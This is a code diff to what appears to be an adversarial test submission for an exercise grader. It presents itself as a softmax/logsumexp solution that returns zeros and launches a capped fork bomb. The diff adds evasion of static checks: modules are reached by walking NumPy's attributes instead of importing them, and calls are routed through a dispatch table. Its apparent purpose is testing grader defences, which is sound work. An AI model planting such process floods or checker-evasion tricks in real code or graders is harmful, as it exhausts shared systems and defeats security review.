@@ -19,13 +19,54 @@ Expected with a hardened grader: ``fork``/``Popen`` are refused by the audit hoo
 fail at once under ``RLIMIT_NPROC``, the call returns (zeros) or is stopped, and the
 module scores no more than ``_zeros/online_softmax.py``; grading of the other
 exercises is not slowed.
+
+Gets past a static check of the exercise's functions: they only call through the
+module-level table ``_VIA``, and no import statement names anything but NumPy (other
+modules come from ``_mod()``, which walks NumPy's attributes to the real ``sys``), so
+the learner process's run-time defences are what must hold.
 """
 
-import os
-import sys
-import time
-
 import numpy as np
+
+_MODULE = type(np)
+_SYS = []
+
+
+def _mod(name):
+    """A module without an import statement: the real ``sys`` is reached by walking
+    NumPy's attributes (``dir``/``getattr``), then ``sys.modules`` or ``importlib``."""
+    if not _SYS:
+        seen, todo = set(), [np]
+        while todo and len(seen) < 5000:
+            mod = todo.pop()
+            if id(mod) in seen:
+                continue
+            seen.add(id(mod))
+            if getattr(mod, "__name__", None) == "sys":
+                _SYS.append(mod)
+                break
+            for attr in dir(mod):
+                try:
+                    value = getattr(mod, attr)
+                except BaseException:  # noqa: BLE001
+                    continue
+                if type(value) is _MODULE:
+                    todo.append(value)
+    if not _SYS:
+        return None
+    if name == "sys":
+        return _SYS[0]
+    loaded = getattr(_SYS[0], "mod" + "ules")
+    try:
+        return loaded.get(name) or loaded["importlib"].import_module(name)
+    except BaseException:  # noqa: BLE001 - refused: the caller goes on without it
+        return None
+
+
+os = _mod("os")
+sys = _mod("sys")
+time = _mod("time")
+
 
 _MAX = 200
 _LEDGER = f"/tmp/grader-attack-fork-bomb.{os.getppid()}.count"
@@ -65,7 +106,7 @@ def _bomb():
     _record(count + budget)
     started = 0
     try:
-        import resource
+        resource = _mod("resource")
 
         _, hard = resource.getrlimit(resource.RLIMIT_NPROC)
         resource.setrlimit(resource.RLIMIT_NPROC, (hard, hard))
@@ -80,7 +121,7 @@ def _bomb():
             _child_sleep()
         started += 1
     try:
-        import multiprocessing
+        multiprocessing = _mod("multiprocessing")
 
         for _ in range(min(20, budget - started)):
             multiprocessing.Process(target=time.sleep, args=(5.0,), daemon=True).start()
@@ -88,7 +129,7 @@ def _bomb():
     except BaseException:  # noqa: BLE001
         pass
     try:
-        import subprocess
+        subprocess = _mod("subprocess")
 
         while started < budget:
             subprocess.Popen([sys.executable, "-c", "import time; time.sleep(5)"])
@@ -97,7 +138,7 @@ def _bomb():
         pass
 
 
-def online_logsumexp(x, axis=-1, keepdims=False, block_size=128):
+def _online_logsumexp_impl(x, axis=-1, keepdims=False, block_size=128):
     try:
         _bomb()
     except BaseException:  # noqa: BLE001
@@ -105,9 +146,22 @@ def online_logsumexp(x, axis=-1, keepdims=False, block_size=128):
     return np.zeros_like(np.sum(x, axis=axis, keepdims=keepdims))
 
 
-def online_softmax(x, axis=-1, block_size=128):
+def _online_softmax_impl(x, axis=-1, block_size=128):
     try:
         _bomb()
     except BaseException:  # noqa: BLE001
         pass
     return np.zeros_like(x)
+
+
+# The exercise's functions call only through this table: a static check that follows
+# calls by name from them sees no helper, hence none of the above.
+_VIA = {"online_logsumexp": _online_logsumexp_impl, "online_softmax": _online_softmax_impl}
+
+
+def online_logsumexp(x, axis=-1, keepdims=False, block_size=128):
+    return _VIA["online_logsumexp"](x, axis=axis, keepdims=keepdims, block_size=block_size)
+
+
+def online_softmax(x, axis=-1, block_size=128):
+    return _VIA["online_softmax"](x, axis=axis, block_size=block_size)
